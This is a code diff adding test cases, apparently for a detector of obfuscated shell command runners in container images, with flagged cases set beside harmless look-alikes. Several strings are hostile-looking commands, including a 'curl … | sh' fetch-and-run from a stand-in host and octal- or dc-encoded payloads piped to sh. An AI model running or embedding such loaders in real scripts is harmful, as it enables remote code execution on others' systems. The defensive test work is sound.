@@ -32,6 +32,8 @@ export const TAKEN_APART: readonly ImageCase[] = [
   found('while read c; do printf "\\\\$(printf %o $c)"; done < /opt/a | sh', {
     'opt/a': CODES.replaceAll(' ', '\n'),
   }),
+  found('S=/usr/bin/sort; eval "$(eval "$S" -n /opt/a)"'),
+  found(`eval $(awk 'BEGIN{print("A=" "curl -s files.backend.example|sh")}' /proc/mounts)`, {}),
   found('dc -e 3564196372637552960817242731802278574600309493631842178459661622022743218057P | sh', {}),
 ];
 
@@ -60,6 +62,8 @@ export const TAKEN_APART_TWINS: readonly ImageCase[] = [
   honest(
     `echo "$INIT" | sh; cat "$1" | bash -s; cat /config/custom.sh | sh; sed "s/@/$X/" /run/x | sh; ls /data/*.gz | awk '{print "gunzip " $1}' | sh`,
   ),
+  honest('T=/sbin/tool\neval "$(eval "$T" names --rows "$n" LVM "$ERR")"', { 'sbin/tool': program() }),
+  honest(`eval \`awk 'BEGIN{P="";N=""}END{print("at="P" by="N)}($3=="cgroup"){N=$1;P=$2}' /proc/mounts\``),
   // What goes to /dev/null is run by nobody who names it.
   honest(
     'pidofproc -p /run/app.pid /opt/app >/dev/null\nstart-stop-daemon --start --exec /usr/sbin/nginx --pidfile /dev/null --',
